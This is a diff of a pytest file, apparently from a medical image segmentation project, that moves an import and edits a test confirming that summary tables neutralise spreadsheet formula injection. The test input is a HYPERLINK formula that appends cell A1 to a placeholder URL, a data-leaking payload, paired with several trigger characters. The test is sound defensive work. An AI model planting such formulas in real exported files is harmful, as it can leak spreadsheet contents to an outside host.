@@ -5,10 +5,10 @@ from pathlib import Path
 
 import pytest
 
-from parotid_seg.files import harmless
 from parotid_seg.flags import Flag, FlagCode
 from parotid_seg.runtime.journal import Entry
 from parotid_seg.runtime.summary import write_summary
+from parotid_seg.tables import harmless
 
 LABELS = ("background", "parotid_left", "parotid_right")
 
@@ -20,7 +20,7 @@ def read(path: Path) -> list[dict[str, str]]:
 
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
 def test_no_text_is_a_formula(tmp_path, first):
-    evil = f'{first}HYPERLINK("http://x?"&A1,"see")'
+    evil = f'{first}HYPERLINK("http:x?"&A1,"see")'
     sizes = {"parotid_left": 20.0, evil: 3.0}
     entry = Entry(
         evil,
